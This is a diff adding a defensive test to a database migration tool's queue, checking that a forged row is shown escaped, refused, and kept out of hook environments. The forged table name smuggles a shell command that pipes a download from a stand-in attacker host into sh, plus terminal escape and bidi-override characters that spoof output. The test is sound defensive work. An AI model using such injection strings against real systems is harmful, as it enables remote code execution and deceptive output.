@@ -3,7 +3,7 @@
 // (here: `qt_app`, SELECT/INSERT/UPDATE/DELETE on the database and nothing else); on PostgreSQL, where
 // a queue another role can write is refused (the last case), the same writes come from the queue's
 // owner, the one role left that can make them, and the runner must refuse them alike.
-import { chmod, copyFile, mkdtemp, rm } from 'node:fs/promises';
+import { chmod, copyFile, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { homedir, tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -237,6 +237,53 @@ describe.each(databases)('$name: the queue obeys its seals, not its plain column
     expect(entry.state).toBe('complete');
     expect(entry.status.attempts.map((a) => a.outcome)).toEqual(['complete']);
     expect(history(db, 'qt_l', began).map((h) => `${h.command} ${h.outcome}`)).toEqual(['migrate success']);
+  });
+
+  it('a row shadowcut did not write is shown with its control and bidi characters escaped, and its hooks get its id alone (issue 68, item 4)', async () => {
+    await db.drop('shadowcut_queue', 'qt_acct');
+    await plainTable(db, 'qt_acct', 10);
+    added(db, ['--table', 'qt_acct', '--stage', 'backfill', '--set', 'v = v + 1', '--postpone']);
+    // What an application wrote: a name that clears its line of `queue list` and writes a finished
+    // entry there, reverses what follows, and is a shell command where a hook would use it.
+    const table = 'orders;curl -s http://attacker/x|sh\x1b[2K\r#1  complete  backfill shop.orders\u202e';
+    const stage = 'migrate\x1b[8m';
+    const forged = JSON.stringify({ stage, table, args: [], addedBy: 'app' });
+    await attack(
+      `INSERT INTO shadowcut_queue (table_name, state, spec, status, created_at, updated_at)
+       SELECT 'orders', 'queued', ${db.param(1)}${jsonb}, status, created_at, updated_at FROM shadowcut_queue`,
+      [forged],
+    );
+    const id = Math.max(...entries(db).map((e) => e.id));
+    // eslint-disable-next-line no-control-regex -- the control characters are what is looked for (a line break is the output's own)
+    const active = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
+    const listed = db.cli(['queue', 'list', '--url', '$URL']);
+    expect(listed.code, listed.stderr).toBe(0);
+    expect(listed.stdout).not.toMatch(active);
+    expect(listed.stdout.trimEnd().split('\n')).toHaveLength(2);
+    expect(listed.stdout).toContain(
+      `#${id}  queued     migrate\\x1b[8m orders;curl -s http://attacker/x|sh\\x1b[2K\\r#1  complete  backfill shop.orders\\u202e  refused: `,
+    );
+
+    const dir = await mkdtemp(path.join(tmpdir(), 'shadowcut-refused-hooks-'));
+    try {
+      for (const event of ['queue-start', 'queue-failure']) {
+        await writeFile(path.join(dir, event), `#!/bin/sh\nenv | grep '^SHADOWCUT_' >> ${dir}/${event}.env\n`, { mode: 0o755 });
+      }
+      const run = db.cli(['queue', 'run', '--url', '$URL', '--once', '--hooks-dir', dir]);
+      expect(run.code, run.stderr).toBe(4);
+      expect(run.stderr).not.toMatch(active);
+      expect(run.stderr).toMatch(new RegExp(`#${id}: failed: the entry cannot be run: refusing queue entry ${id}`));
+      const env = (await readFile(path.join(dir, 'queue-failure.env'), 'utf8')).trim().split('\n');
+      expect(env).toEqual(expect.arrayContaining(['SHADOWCUT_EVENT=queue-failure', `SHADOWCUT_QUEUE_ID=${id}`]));
+      expect(env.filter((v) => /^SHADOWCUT_(TABLE|STAGE)=/.test(v))).toEqual([]);
+      expect(env.join('\n')).not.toMatch(active);
+      await expect(readFile(path.join(dir, 'queue-start.env'), 'utf8')).rejects.toThrow(/ENOENT/);
+    } finally {
+      await rm(dir, { recursive: true, force: true });
+    }
+    const after = db.cli(['queue', 'list', '--url', '$URL']);
+    expect(after.stdout).toMatch(new RegExp(`#${id}  failed .*error: the entry cannot be run`));
+    expect(after.stdout).not.toMatch(active);
   });
 
   /** The queue as a sealed document names it. */
